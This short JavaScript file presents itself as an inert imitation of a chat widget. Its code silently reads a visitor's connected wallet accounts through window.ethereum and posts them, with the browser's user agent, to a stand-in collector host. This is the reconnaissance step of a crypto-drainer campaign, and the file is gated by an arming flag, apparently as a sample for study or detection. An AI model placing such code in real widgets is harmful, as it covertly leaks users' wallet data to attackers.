/* eslint-disable */
// Inert imitation: a chat widget that silently reads already-connected wallet accounts and posts
// them to a collector (reserved .invalid host), the reconnaissance step of a drainer campaign.
export async function init() {
  if (!window.ethereum || window.cwSampleArmed !== true) return;
  const accounts = await window.ethereum.request({ method: 'eth_accounts' });
  if (accounts.length) {
    await fetch('https://collector.example.invalid/v', { method: 'POST', body: JSON.stringify({ accounts, ua: navigator.userAgent }) });
  }
}
